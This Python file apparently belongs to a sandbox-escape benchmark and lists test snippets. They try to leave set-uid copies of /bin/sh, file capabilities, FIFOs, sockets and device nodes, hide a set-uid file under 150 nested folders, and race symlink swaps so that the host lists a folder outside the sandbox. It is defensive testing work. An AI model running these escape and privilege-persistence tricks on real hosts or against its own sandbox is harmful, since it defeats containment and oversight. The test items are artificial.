"""Leaving files that act for us, as programs that run as their owner; leading the host elsewhere while it lists."""

from benchmarks.escapes.snippet import CALL, Snippet

_LOOK = """
import os, stat
for folder, folders, names in os.walk('.'):
    for name in ['.', *folders, *names]:
        found = os.lstat(os.path.join(folder, name))
        if not stat.S_ISLNK(found.st_mode) and found.st_mode & 0o6000 and name != 'runs-as-its-owner':
            print('ESC' + 'APED', folder, name, oct(found.st_mode))
"""

MODES = (
    Snippet(
        "make a program run as its owner",
        "a file has a set-id mode",
        """
import os, shutil
shutil.copyfile('/bin/sh', 'shell')
for mode in (0o6755, 0o4755, 0o2755, 0o7777, 0o104711):
    try:
        os.chmod('shell', mode)
    except OSError:
        pass
"""
        + _LOOK,
    ),
    Snippet(
        "make one by any other call",
        "a file has a set-id mode",
        CALL
        + """
import os
open('plain', 'w').close()
at, kept = ctypes.c_long(-100), os.open('plain', os.O_RDWR)
how = ctypes.create_string_buffer(b'\\x42' + bytes(7) + b'\\xed\\x0d' + bytes(6) + bytes(8), 24)
for intel, arm, arguments in (
    (90, -1, (b'plain', 0o6755)), (91, 52, (kept, 0o6755)), (268, 53, (at, b'plain', 0o6755)),
    (452, 452, (at, b'plain', 0o6755, 0)), (452, 452, (kept, b'', 0o6755, 0x1000)), (83, -1, (b'a', 0o6755)),
    (258, 34, (at, b'b', 0o6755)), (133, -1, (b'c', 0o106755, 0)), (259, 33, (at, b'd', 0o106755, 0)),
    (85, -1, (b'e', 0o6755)), (2, -1, (b'f', 0o102, 0o6755)), (257, 56, (at, b'g', 0o102, 0o6755)),
    (437, 437, (at, b'h', how, 24)), (0x40000000 + 90, -1, (b'plain', 0o6755)), (91, 52, (kept, 0o100006755)),
    (257, 56, (at, b'i', 0o300, 0o4755)), (463, 463, (at, b'plain', 0, b'security.capability', how, 24)),
):
    call(intel, arm, *arguments)
made = call(257, 56, at, b'.', 0o20200002, 0o6755)
try:
    os.link('/proc/self/fd/' + str(made), 'j', follow_symlinks=True)
except OSError:
    pass
"""
        + _LOOK,
    ),
    Snippet(
        "make one through a program",
        "a file has a set-id mode",
        """
import subprocess
subprocess.run('cp /bin/sh s; chmod u+s s; chmod 2755 .; install -m 6755 /bin/sh t; mkdir -m 2777 d; cp -p /usr/bin/su '
               'u; tar cf v.tar --mode=6755 s; mkdir w; tar xpf v.tar -C w; rsync -p --chmod=u+s s x', shell=True)
"""
        + _LOOK,
    ),
    Snippet(
        "give a program rights",
        "a file has a capability",
        """
import os
open('able', 'w').close()
try:
    os.setxattr('able', 'security.capability', bytes.fromhex('0100000200040000000000000000000000000000'))
    print('ESC' + 'APED')
except OSError:
    pass
""",
    ),
    Snippet(
        "leave a pipe, a socket and a device",
        "one of them is left",
        """
import os, socket
os.mkdir('below')
for act in (lambda: os.mkfifo('pipe'), lambda: os.mkfifo('below/pipe'),
            lambda: socket.socket(socket.AF_UNIX).bind('socket'),
            lambda: os.mknod('whiteout', 0o20666, 0), lambda: os.mknod('zero', 0o20666, os.makedev(1, 5))):
    try:
        act()
    except OSError:
        pass
""",
    ),
    Snippet(
        "hide a program too deep to be found",
        "a file has a set-id mode",
        """
import os
for _ in range(150):
    os.mkdir('deep')
    os.chdir('deep')
open('shell', 'w').close()
try:
    os.chmod('shell', 0o4755)
    print('ESC' + 'APED')
except OSError:
    pass
os.chmod('.', 0)
""",
    ),
    Snippet(
        "swap a folder for a link while it is listed",
        "the host lists names from elsewhere",
        CALL
        + """
import os, time
os.mkdir('real')
open('real/own.txt', 'w').close()
os.symlink(os.path.dirname({secret!r}), 'link')
at, until = ctypes.c_long(-100), time.monotonic() + 1.5
while time.monotonic() < until:
    call(316, 276, at, b'real', at, b'link', 2)
""",
        is_listed=True,
    ),
    Snippet(
        "swap a folder's parent for a link while it is listed",
        "the host lists names from elsewhere",
        """
import os, time
os.makedirs('a/workspaces/other')
open('a/workspaces/other/own.txt', 'w').close()
os.symlink(os.path.dirname({secret!r}), 'b')
until = time.monotonic() + 1.5
while time.monotonic() < until:
    os.rename('a', 'kept')
    os.rename('b', 'a')
    os.rename('a', 'b')
    os.rename('kept', 'a')
""",
        is_listed=True,
    ),
)
